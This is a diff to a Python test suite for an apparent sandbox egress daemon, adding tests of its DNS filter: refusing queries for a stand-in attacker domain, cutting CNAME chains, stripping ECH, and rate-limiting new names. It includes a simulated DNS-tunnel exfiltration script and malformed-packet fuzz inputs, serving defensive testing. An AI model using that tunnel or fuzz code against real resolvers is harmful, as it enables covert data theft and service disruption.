@@ -143,6 +143,7 @@ workers: 2
 state_dir: {RUN}/state
 timeouts: {{ peek_ms: 1500, connect_ms: 2000 }}
 dns: {{ servers: ["198.18.0.53"], verify: VERIFY, timeout_ms: 400 }}
+dns_filter: {{ listen: ["0.0.0.0:15053", "[::]:15053"], budget: {{ new_names_per_minute: 30 }} }}
 limits: {{ max_peek_bytes: 16384, max_connections_per_sandbox: 40 }}
 access_log: {ACCESS_LOG}
 guard: {{ deny: ["10.200.0.0/16", "fd00:200::/40"] }}   # the built-in floor (loopback, metadata...) holds without listing it
@@ -251,6 +252,11 @@ def start_dnsmasq():
     global dnsmasq_process
     args = " ".join(f"--host-record={name},{','.join(addresses)}" for name, addresses in DNS_RECORDS.items())
     args += " --address=/zero.example.org/# --log-queries --log-facility=" + DNSMASQ_LOG  # 0.0.0.0 and ::
+    # For the DNS filter: CNAME chains (to an allowed and to a not allowed name) and an HTTPS
+    # record with alpn=h2 and an ech SvcParam (RFC 9460 wire form).
+    args += (" --host-record=edge.cdn-provider.example,198.18.0.10 --cname=alias.github.com,api.github.com"
+             " --cname=cdn.github.com,edge.cdn-provider.example"
+             " --dns-rr=ech.github.com,65,0001000001000302683200050004deadbeef")
     dnsmasq_process = subprocess.Popen(
         f"exec ip netns exec {P}net dnsmasq --no-daemon --no-resolv --no-hosts --listen-address=198.18.0.53 "
         f"--bind-interfaces --local-ttl=60 --pid-file= --user=root {args}",
@@ -271,8 +277,8 @@ def dns_answers(name, server="198.18.0.53"):
 
 def start_egressd(nofile=None):
     global egressd_process
-    unprivileged = ("setpriv --reuid=65534 --regid=65534 --clear-groups --inh-caps=-all,+net_admin "
-                    "--ambient-caps=-all,+net_admin --bounding-set=-all,+net_admin")
+    unprivileged = ("setpriv --reuid=65534 --regid=65534 --clear-groups --inh-caps=-all,+net_admin,+net_bind_service "
+                    "--ambient-caps=-all,+net_admin,+net_bind_service --bounding-set=-all,+net_admin,+net_bind_service")
     limit = f"prlimit --nofile={nofile}:{nofile} " if nofile else ""
     egressd_process = subprocess.Popen(f"exec ip netns exec {P}host {limit}{unprivileged} {EGRESSD} --config {CONFIG}", shell=True,
                                        stdout=open(os.path.join(WORK, "egressd.out"), "a"),
@@ -518,11 +524,11 @@ def firewall_passes_only_tcp_to_egressd_and_dns_to_the_resolver():
 @test
 def firewall_dns_port_takes_every_dns_packet_and_ipv6_drop_drops_ipv6():
     start_sniffer()
-    listener = start(f"ip netns exec {P}host python3 {HERE}/packets.py dnslisten 15053", "dns-listener")
+    listener = start(f"ip netns exec {P}host python3 {HERE}/packets.py dnslisten 15054", "dns-listener")
     out_path = os.path.join(WORK, "dns-listener.out")
     try:
         wait_for(lambda: "ready" in open(out_path).read(), "the transparent DNS listener")
-        firewall(FIREWALL_ARGS + " --dns-port 15053")
+        firewall(FIREWALL_ARGS + " --dns-port 15054")
         # To the resolver and to any other address, UDP and TCP, v4 and v6: all at the listener.
         assert send_packets("sbx1", "dnsport", "10.200.1.2", "fd00:200:1::2", "dns", "udp53", "udp",
                             marker_in=out_path) == set()
@@ -1003,6 +1009,189 @@ def dns_server_down_means_dns_failure_quickly():
         assert last_record(name="big.example.org")["reason"] == "dns_failure"
     finally:
         start_dnsmasq()
+
+
+# ---------------------------------------------------------------- the DNS filter
+
+
+@contextlib.contextmanager
+def dns_filter_firewall():
+    """The firewall sending every sandbox packet to port 53 to egressd's DNS filter."""
+    firewall(FIREWALL_ARGS + " --dns-port 15053")
+    try:
+        yield
+    finally:
+        firewall(FIREWALL_ARGS)
+
+
+def dig(sandbox, args, timeout=20):
+    """dig from a sandbox: (status, answer lines). +tries=1: one query, no retry."""
+    r = ns(sandbox, f"dig +tries=1 +time=3 {args}", check=False, timeout=timeout)
+    status = re.search(r"status: (\w+)", r.stdout)
+    answers = [line for line in r.stdout.splitlines() if line and not line.startswith(";")]
+    return (status.group(1) if status else "NOANSWER:" + r.stdout[-200:]), answers
+
+
+def dnsmasq_saw(name):
+    try:
+        return f" {name} from " in open(DNSMASQ_LOG).read()
+    except FileNotFoundError:
+        return False
+
+
+def addresses(answer_lines):
+    return sorted(line.split()[-1] for line in answer_lines if line.split()[3] in ("A", "AAAA"))
+
+
+@test
+def dns_filter_answers_allowed_names_and_refuses_denied_ones():
+    nonce = str(int(time.time() * 1000))
+    code, _ = api("PUT", "/v1/sandboxes/dnsonly",
+                  {"sources": ["10.200.1.3"], "egress": {"default": "deny", "allow": ["*.github.com"]}})
+    assert code == 200
+    try:
+        with dns_filter_firewall():
+            # Allowed, to the resolver the sandbox names, to an address that runs no resolver
+            # (198.18.0.11: only egressd can answer), over TCP and over IPv6.
+            assert addresses(dig("sbx1", "@198.18.0.53 api.github.com A")[1]) == ["198.18.0.10"]
+            status, lines = dig("sbx1", "@198.18.0.11 pypi.org AAAA")
+            assert status == "NOERROR" and addresses(lines) == ["fd00:198::10"], (status, lines)
+            assert addresses(dig("sbx1", "+tcp @198.18.0.11 api.github.com A")[1]) == ["198.18.0.10"]
+            assert addresses(dig("sbx1", "@fd00:198::11 api.github.com AAAA")[1]) == ["fd00:198::10"]
+            assert addresses(dig("sbx1", "+tcp @fd00:198::11 pypi.org A")[1]) == ["198.18.0.10"]
+            rec = last_record(proto="dns", name="api.github.com", qtype="A")
+            assert rec["reason"] == "allowed_domain" and rec["rule"] == "*.github.com", rec
+            assert rec["answers"] == ["198.18.0.10"] and rec["sandbox"] == "one", rec
+            # Denied: refused, and the name never reaches the upstream (a sandbox with no
+            # address rule: no answer could carry anything it may reach).
+            for qtype in ("A", "AAAA", "TXT", "HTTPS", "MX"):
+                name = f"{qtype.lower()}-{nonce}.attacker.example"
+                status, lines = dig("sbx1", f"-b 10.200.1.3 @198.18.0.53 {name} {qtype}")
+                assert status == "REFUSED" and not lines, (qtype, status, lines)
+                status, _ = dig("sbx1", f"+tcp -b 10.200.1.3 @198.18.0.11 {name} {qtype}")
+                assert status == "REFUSED", status
+                assert not dnsmasq_saw(name), name
+            rec = last_record(proto="dns", sandbox="dnsonly", qtype="MX")
+            assert rec["reason"] == "default_deny" and rec["verdict"] == "deny", rec
+            # A name the policy denies explicitly, for a sandbox that has address rules: only
+            # answers inside them could pass; gist.github.com's does not.
+            status, _ = dig("sbx1", "@198.18.0.53 gist.github.com A")
+            assert status == "REFUSED", status
+            assert last_record(proto="dns", name="gist.github.com")["reason"] == "denied_domain"
+            # Not allowed by name, but its address is inside an allowed address rule.
+            status, lines = dig("sbx1", "@198.18.0.53 db.corp.example A")
+            assert status == "NOERROR" and addresses(lines) == ["198.18.0.11"], (status, lines)
+            assert last_record(proto="dns", name="db.corp.example")["reason"] == "filtered_answer"
+            denials = api("GET", "/v1/denials?sandbox=dnsonly")[1]["denials"]
+            assert any(d.get("proto") == "dns" and d["name"] == f"mx-{nonce}.attacker.example" and
+                       d["qtype"] == "MX" and d["reason"] == "default_deny" for d in denials), denials
+            listed = ctl("denials", "dnsonly").stdout
+            assert f"a-{nonce}.attacker.example" in listed, listed
+            text = metrics()
+            assert metric_value(text, "egressd_dns_requests_total",
+                                {"verdict": "deny", "reason": "default_deny"}) >= 10
+            assert metric_value(text, "egressd_dns_requests_total",
+                                {"verdict": "allow", "reason": "allowed_domain"}) >= 5
+            assert metric_value(text, "egressd_dns_request_duration_seconds_count", {}) >= 15
+    finally:
+        api("DELETE", "/v1/sandboxes/dnsonly")
+
+
+@test
+def dns_filter_cuts_chains_strips_ech_and_removes_guarded_answers():
+    with dns_filter_firewall():
+        # A CNAME to an allowed name is followed; to a name the policy does not allow, cut.
+        status, lines = dig("sbx1", "@198.18.0.53 alias.github.com A")
+        assert status == "NOERROR" and addresses(lines) == ["198.18.0.10"], (status, lines)
+        assert any(line.split()[3:5] == ["CNAME", "api.github.com."] for line in lines), lines
+        status, lines = dig("sbx1", "@198.18.0.53 cdn.github.com A")
+        assert status == "REFUSED" and not lines, (status, lines)
+        assert last_record(proto="dns", name="cdn.github.com")["reason"] == "filtered_answer"
+        # The upstream really sends ech (positive control), the sandbox never sees it.
+        direct = ns("net", "dig +tries=1 @198.18.0.53 ech.github.com HTTPS").stdout
+        assert "ech=" in direct and "alpn=" in direct, direct
+        status, lines = dig("sbx1", "@198.18.0.53 ech.github.com HTTPS")
+        assert status == "NOERROR" and lines and all("ech=" not in line for line in lines), lines
+        assert any('alpn="h2"' in line for line in lines), lines
+        rec = last_record(proto="dns", name="ech.github.com")
+        assert rec["ech"] is True and rec["reason"] == "allowed_domain", rec
+        # Answers inside the guard are removed whatever the policy allows.
+        for name in ("metadata.example.org", "guarded.example.org", "zero.example.org"):
+            status, lines = dig("sbx2", f"@198.18.0.53 {name} A")
+            assert status == "REFUSED" and not lines, (name, status, lines)
+            assert last_record(proto="dns", name=name)["reason"] == "filtered_answer"
+        status, lines = dig("sbx2", "@198.18.0.53 zero.example.org AAAA")
+        assert status == "REFUSED" and not lines, (status, lines)
+
+
+@test
+def dns_filter_budget_cuts_a_tunnel_through_an_allowed_wildcard():
+    nonce = str(int(time.time() * 1000))
+    with dns_filter_firewall():
+        # Sandbox two allows .example.org: a tunnel encodes data in names below it. The budget
+        # lets 30 new names of one registrable domain per minute through.
+        script = ("import socket, struct, json\n"
+                  "out = {}\n"
+                  "for i in range(60):\n"
+                  f"  name = 'c2VjcmV0{{}}-{nonce}.example.org'.format(i)\n"
+                  "  q = struct.pack('>HHHHHH', i, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)\n"
+                  "  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)\n"
+                  "  s.sendto(q, ('198.18.0.53', 53))\n"
+                  "  try: a = s.recv(4096); out[name] = a[3] & 15\n"
+                  "  except OSError: out[name] = -1\n"
+                  "print(json.dumps(out))\n")
+        r = ns("sbx2", f"python3 -c \"{script}\"", timeout=120)
+        rcodes = json.loads(r.stdout.strip().splitlines()[-1])
+        refused = [n for n, c in rcodes.items() if c == 5]
+        passed = [n for n, c in rcodes.items() if c != 5]
+        assert -1 not in rcodes.values(), rcodes
+        assert len(passed) <= 30 and len(refused) >= 30, (len(passed), len(refused))
+        assert not [n for n in refused if dnsmasq_saw(n)], "a name over budget reached the upstream"
+        assert records_of_this_test(proto="dns", reason="budget_exceeded")
+        # Another domain still has its budget.
+        assert addresses(dig("sbx2", "@198.18.0.53 evil.example A")[1]) == ["198.18.0.10"]
+
+
+@test
+def dns_filter_audit_mode_answers_with_would_deny_and_odd_bytes_never_stop_it():
+    nonce = str(int(time.time() * 1000))
+    code, _ = api("PUT", "/v1/sandboxes/dnsonly",
+                  {"sources": ["10.200.1.3"], "mode": "audit",
+                   "egress": {"default": "deny", "allow": ["pypi.org"]}})
+    assert code == 200
+    try:
+        with dns_filter_firewall():
+            status, lines = dig("sbx1", "-b 10.200.1.3 @198.18.0.53 api.github.com A")
+            assert status == "NOERROR" and addresses(lines) == ["198.18.0.10"], (status, lines)
+            rec = last_record(proto="dns", sandbox="dnsonly", name="api.github.com")
+            assert rec["reason"] == "audit_allow" and rec["would_deny"] == "default_deny", rec
+            # The guard holds in audit mode too.
+            status, _ = dig("sbx1", "-b 10.200.1.3 @198.18.0.53 metadata.example.org A")
+            assert status == "REFUSED", status
+            # Garbage, a response, a truncated header, a compression loop, two questions, a
+            # zone transfer, an oversized TCP length: FORMERR or nothing, then still serving.
+            script = ("import socket, struct\n"
+                      "def q(body, flags=0x100, qd=1): return struct.pack('>HHHHHH', 7, flags, qd, 0, 0, 0) + body\n"
+                      "name = b'\\x03api\\x06github\\x03com\\x00'\n"
+                      "cases = [b'\\xff' * 40, q(name + b'\\x00\\x01\\x00\\x01', flags=0x8100), b'\\x00\\x07\\x01',\n"
+                      "  q(b'\\xc0\\x0c\\x00\\x01\\x00\\x01'), q(name + b'\\x00\\x01\\x00\\x01' + name + b'\\x00\\x01\\x00\\x01', qd=2),\n"
+                      "  q(name + b'\\x00\\xfc\\x00\\x01'), q(b'\\x3f' + b'a' * 63 + b'\\x00\\x00\\x01\\x00\\x01')[:30]]\n"
+                      "for c in cases:\n"
+                      "  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(c, ('198.18.0.53', 53))\n"
+                      "  try: a = s.recv(4096); print('rcode', a[3] & 15)\n"
+                      "  except OSError: print('none')\n"
+                      "t = socket.create_connection(('198.18.0.53', 53), timeout=3); t.sendall(b'\\xff\\xff' + b'x' * 100)\n"
+                      "t.settimeout(3)\n"
+                      "try: print('tcp', t.recv(10))\n"
+                      "except ConnectionResetError: print('tcp reset')\n")
+            r = ns("sbx1", f"python3 -c \"{script}\"", timeout=60)
+            lines = r.stdout.split("\n")
+            assert lines[:7] == ["none", "none", "none", "rcode 1", "rcode 1", "rcode 1", "rcode 1"], r.stdout
+            assert "tcp b''" in r.stdout or "tcp reset" in r.stdout, r.stdout  # closed, no answer
+            assert addresses(dig("sbx1", "@198.18.0.53 api.github.com A")[1]) == ["198.18.0.10"]
+            assert records_of_this_test(proto="dns", reason="malformed_query")
+    finally:
+        api("DELETE", "/v1/sandboxes/dnsonly")
 
 
 # ---------------------------------------------------------------- bypasses a hostile sandbox tried
